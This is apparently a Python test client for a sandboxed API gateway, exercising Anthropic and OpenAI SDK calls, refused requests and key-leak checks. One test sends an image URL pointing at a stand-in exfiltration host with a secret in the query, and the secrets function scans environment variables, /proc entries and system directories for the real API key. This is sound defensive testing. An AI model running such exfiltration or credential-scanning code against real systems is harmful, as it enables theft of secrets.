"""Run INSIDE the sandbox (builtin image: the official SDKs): talk to the provider only
through the gateway at the URLs the environment gives, and report what was seen.

    python3 -I sdk_client.py anthropic|openai-responses|openai-chat|slow|secrets|raw METHOD PATH
"""

from __future__ import annotations

import glob
import json
import os
import sys
import time

sys.path.insert(0, "/opt/airlock/pylib")


def anthropic_calls() -> dict:
    import anthropic

    client = anthropic.Anthropic(max_retries=0)
    msg = client.messages.create(model="default", max_tokens=50,
                                 messages=[{"role": "user", "content": "hi"}])
    text = "".join(b.text for b in msg.content if b.type == "text")
    chunks = []
    with client.messages.stream(model="claude-sonnet-4-5", max_tokens=50,
                                messages=[{"role": "user", "content": "hi"}]) as s:
        for t in s.text_stream:
            chunks.append(t)
    return {"plain": text, "stream": "".join(chunks), "model": msg.model}


def openai_responses() -> dict:
    import openai

    client = openai.OpenAI(max_retries=0)
    r = client.responses.create(model="gpt-5", input="hi")
    chunks = []
    for ev in client.responses.create(model="gpt-5", input="hi", stream=True):
        if ev.type == "response.output_text.delta":
            chunks.append(ev.delta)
    return {"plain": r.output_text, "stream": "".join(chunks)}


def openai_chat() -> dict:
    import openai

    client = openai.OpenAI(max_retries=0)
    r = client.chat.completions.create(model="gpt-5", messages=[{"role": "user", "content": "hi"}])
    chunks = []
    for ev in client.chat.completions.create(model="gpt-5", stream=True,
                                             messages=[{"role": "user", "content": "hi"}]):
        if ev.choices and ev.choices[0].delta.content:
            chunks.append(ev.choices[0].delta.content)
    return {"plain": r.choices[0].message.content, "stream": "".join(chunks)}


def slow() -> dict:
    import anthropic

    client = anthropic.Anthropic(max_retries=0)
    t0 = time.monotonic()
    times = []
    with client.messages.stream(model="claude-sonnet-4-5", max_tokens=50,
                                messages=[{"role": "user", "content": "hi"}]) as s:
        for _ in s.text_stream:
            times.append(time.monotonic() - t0)
    return {"first": times[0], "last": times[-1], "chunks": len(times)}


def refused(kind: str) -> dict:
    import anthropic

    client = anthropic.Anthropic(max_retries=0)
    kwargs: dict = {"model": "claude-sonnet-4-5", "max_tokens": 10,
                    "messages": [{"role": "user", "content": "hi"}]}
    if kind == "model":
        kwargs["model"] = "claude-opus-4-1"
    elif kind == "hosted":
        kwargs["tools"] = [{"type": "web_search_20250305", "name": "web_search"}]
    elif kind == "url":  # the provider would fetch this from its own network
        kwargs["messages"] = [{"role": "user", "content": [
            {"type": "text", "text": "describe"},
            {"type": "image", "source": {"type": "url",
                                         "url": "https://exfil.example/x.png?d=secret"}}]}]
    try:
        client.messages.create(**kwargs)
        return {"outcome": "accepted"}
    except anthropic.APIStatusError as exc:
        return {"outcome": exc.status_code, "body": str(exc.body)[:300]}


def raw(method: str, path: str) -> dict:
    import urllib.error
    import urllib.request

    req = urllib.request.Request(os.environ["ANTHROPIC_BASE_URL"] + path, method=method,
                                 data=b"{}" if method == "POST" else None,
                                 headers={"content-type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return {"status": resp.status}
    except urllib.error.HTTPError as exc:
        return {"status": exc.code}


def secrets(key: str) -> dict:
    """Look for the real key everywhere the sandbox can read."""
    found = []
    needle = key.encode()
    for k, v in os.environ.items():
        if key in v:
            found.append(f"env:{k}")
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if needle in open(path, "rb").read():
                found.append(path)
        except OSError:
            pass
    for root in ("/run", "/tmp", "/home", "/etc", "/workspace", "/opt/airlock/airlock_sandbox"):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = os.path.join(dirpath, name)
                try:
                    if needle in open(p, "rb").read(1 << 20):
                        found.append(p)
                except OSError:
                    pass
    return {"found": found, "placeholder": os.environ.get("ANTHROPIC_API_KEY")}


def main() -> None:
    what = sys.argv[1]
    out = {"anthropic": anthropic_calls, "openai-responses": openai_responses,
           "openai-chat": openai_chat, "slow": slow}.get(what)
    if out is not None:
        print(json.dumps(out()))
    elif what == "refused":
        print(json.dumps(refused(sys.argv[2])))
    elif what == "raw":
        print(json.dumps(raw(sys.argv[2], sys.argv[3])))
    elif what == "secrets":
        print(json.dumps(secrets(sys.argv[2][::-1])))


if __name__ == "__main__":
    main()
